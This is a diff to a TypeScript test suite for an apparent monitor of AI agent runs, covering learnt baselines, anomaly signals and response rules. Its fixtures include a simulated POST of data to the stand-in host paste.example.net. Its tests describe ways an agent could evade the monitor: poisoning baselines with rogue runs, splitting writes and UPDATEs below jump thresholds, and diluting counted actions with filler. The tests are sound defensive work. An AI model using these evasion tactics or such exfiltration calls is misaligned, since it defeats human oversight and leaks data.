@@ -92,6 +92,32 @@ describe('a run like the learnt ones', () => {
   });
 });
 
+describe('baseline poisoning: a rogue run is never learnt', () => {
+  const exfiltration = (index: number) =>
+    step(index, 'http.fetch', { url: 'https://paste.example.net/x', method: 'POST', body: 'k' }, { status: 200 }, { monitor: { score: 70, reasons: [{ signal: 'new-host', points: 70, detail: 'sends data to paste.example.net' }] } });
+  const normal = Array.from({ length: 8 }, (_, i) => normalRun(i));
+
+  it.each([
+    ['a run whose task named packs without response rules (scored, nothing responded)', () => run([...normalRun(1).steps, exfiltration(9)]), 'step 9 of clerk (http.fetch) scored 70 (new-host), above 40'],
+    ['a run whose sub-agent did it', () => run(normalRun(1).steps, [run([exfiltration(0)], [], 'reviewer')]), 'step 0 of reviewer (http.fetch) scored 70 (new-host), above 40'],
+    ['a run that raised an alert', () => ({ ...normalRun(1), alerts: [{} as never] }), 'it raised monitor alerts'],
+    ['a blocked run', () => ({ ...normalRun(1), status: 'blocked' as const }), 'it ended blocked'],
+  ])('%s', (_what, rogue, reason) => {
+    const bad = rogue();
+    const learnt = learnBaselines([...normal, bad], '2026-11-30T00:00:00Z');
+    expect(learnt.skipped).toEqual([{ workflowId: bad.workflowId, reason }]);
+    expect(learnt.learnt).toBe(8);
+    expect(learnt.baselines.flatMap((b) => b.hosts)).not.toContain('paste.example.net');
+  });
+
+  it('an operator can learn scored runs on purpose (--max-score)', () => {
+    const bad = run([...normalRun(1).steps, exfiltration(9)]);
+    const learnt = learnBaselines([...normal, bad], '2026-11-30T00:00:00Z', { maxScore: 70 });
+    expect(learnt.skipped).toEqual([]);
+    expect(learnt.baselines.find((b) => b.agent === 'clerk')!.hosts).toContain('paste.example.net');
+  });
+});
+
 const DEPARTURES: [string, AgentBaseline | undefined, Proposed[], Signal[]][] = [
   ['a tool never called', baseline, [{ tool: 'sql.query' }, { tool: 'fs.list', args: { path: '.' } }], ['new-tool']],
   ['a sub-agent never spawned', baseline, [{ tool: 'spawn:rogue', args: { subagent: 'rogue' } }], ['new-subagent']],
@@ -110,6 +136,13 @@ const DEPARTURES: [string, AgentBaseline | undefined, Proposed[], Signal[]][] = 
   ['three failures in a minute', undefined, Array.from({ length: 3 }, (_, i) => ({ tool: 't.x', args: { i }, outcome: { failed: 'ERR_TOOL_THREW' } })), ['failure-burst']],
   ['revoked credentials', undefined, [{ tool: 't.x', outcome: { failed: 'ERR_CREDENTIAL_REVOKED' } }], ['credentials-revoked']],
   ['a blocked sub-agent', undefined, [{ tool: 'spawn:helper', args: { subagent: 'helper' }, outcome: { childStatus: 'blocked' } }], ['subagent-blocked']],
+  [
+    'UPDATEs of 10 rows each, none a jump, adding up past any learnt run',
+    baseline,
+    Array.from({ length: 3 }, (_, i) => ({ tool: 'sql.exec', args: { database: 'shop', sql: 'UPDATE orders SET qty = 0 WHERE id BETWEEN ? AND ?', params: [i * 10, i * 10 + 9] }, effect: { rowsChanged: 10, operation: 'update' } })),
+    ['rows-total-jump'],
+  ],
+  ['writes of 4 KB each, none a jump, adding up past any learnt run', baseline, Array.from({ length: 5 }, (_, i) => ({ tool: 'fs.write', args: { path: `part-${i}.txt`, content: 'x'.repeat(4000) } })), ['bytes-total-jump']],
   ['an output 100 times the largest learnt', baseline, [{ tool: 'fs.read', args: { path: 'notes.txt' }, outcome: { bytesIn: 1_200_000 } }], ['bytes-in-jump']],
 ];
 
@@ -122,6 +155,17 @@ describe('departures from the baseline and hard signals', () => {
     expect(last.every((r) => r.detail.length > 10)).toBe(true);
     // One action less does not fire it (thresholds are not at zero).
     if (actions.length > 1) expect(signals(simulate(b, actions.slice(0, -1)).at(-1)!)).not.toEqual(expect.arrayContaining(expected));
+  });
+
+  it('a call that jumps on its own is scored for its size, not again for the run\'s total', () => {
+    const [only] = simulate(baseline, [{ tool: 'sql.exec', args: { database: 'shop', sql: 'UPDATE orders SET qty = 0' }, effect: { rowsChanged: 40, operation: 'update' } }]);
+    expect(signals(only!)).toEqual(['rows-jump']);
+  });
+
+  it('a baseline learnt before run totals existed scores no run total', () => {
+    const { rowsPerTask: _r, bytesOutPerTask: _b, ...old } = baseline;
+    const actions = Array.from({ length: 3 }, (_, i): Proposed => ({ tool: 'sql.exec', args: { database: 'shop', sql: 'UPDATE orders SET qty = 0 WHERE id > ?', params: [i] }, effect: { rowsChanged: 10, operation: 'update' } }));
+    expect(simulate(old as AgentBaseline, actions).map(signals)).toEqual([[], [], []]);
   });
 
   it('a baseline of fewer runs than minTasks counts for nothing: only hard signals remain', () => {
@@ -175,5 +219,36 @@ describe('response rules on scores and counts', () => {
     // Three identical refused calls: a loop (30) and a denial burst (20) make 50, above the alert's 40.
     expect(fire(same(3, { tool: 'a.b', outcome: { refused: true } }))[2]).toEqual(['r:1', 'r:2', 'r:3']);
     expect(['alert', 'remediate', 'step-up'].reduce<'alert' | 'step-up' | 'block' | 'remediate' | undefined>((a, b) => strongerResponse(a, b as 'alert'), undefined)).toBe('remediate');
+  });
+});
+
+describe('count rules over a whole run count every action of it', () => {
+  // An agent may dilute: do the counted thing early, then hundreds of other actions, then once more.
+  const EARLY = 300;
+  const FILLER = 600;
+  const CASES: [string, (i: number) => Proposed, string][] = [
+    ['refusals', (i) => ({ tool: 'http.fetch', args: { url: `https://x.example/${i}` }, outcome: { refused: true } }), `block the task when it is denied ${EARLY + 1} times`],
+    ['failures', (i) => ({ tool: 't.x', args: { i }, outcome: { failed: 'ERR_TOOL_THREW' } }), `block the task when it fails ${EARLY + 1} times`],
+    ['rows', (i) => ({ tool: 'sql.exec', args: { database: 'shop', sql: 'DELETE FROM orders WHERE id = ?', params: [i] }, effect: { rowsChanged: 1, operation: 'delete' } }), `block the task when it deletes more than ${EARLY} rows`],
+    ['calls of one tool', (i) => ({ tool: 'sql.exec', args: { database: 'shop', sql: 'SELECT ?', params: [i] } }), `block the task when it makes more than ${EARLY} calls of sql.exec`],
+  ];
+
+  it.each(CASES)('%s', (_what, counted, sentence) => {
+    const rule = parseResponseRule(sentence, { id: 'r:1' });
+    const actions: Proposed[] = [
+      ...Array.from({ length: EARLY }, (_, i) => counted(i)),
+      ...Array.from({ length: FILLER }, (_, i) => ({ tool: 'fs.read', args: { path: `f-${i}.txt` }, at: (EARLY + i) * 10 })),
+      { ...counted(EARLY), at: (EARLY + FILLER) * 10 },
+    ].map((a, i) => ({ ...a, at: a.at ?? i * 10 }));
+    const history = emptyHistory();
+    const armed: Record<string, boolean> = {};
+    const fired = actions.map((a, i) => {
+      const features = featuresOfAction(a.tool, a.args ?? {}, a.effect);
+      const event = recordProposed(history, features, i, T0 + a.at!);
+      if (a.outcome !== undefined) recordOutcome(event, a.outcome);
+      return fireRules([rule], { history, baseline: undefined, features, score: 0, reasons: [], now: T0 + a.at! }, armed, new Set()).length > 0;
+    });
+    expect(fired.slice(0, -1).some(Boolean)).toBe(false);
+    expect(fired.at(-1)).toBe(true);
   });
 });
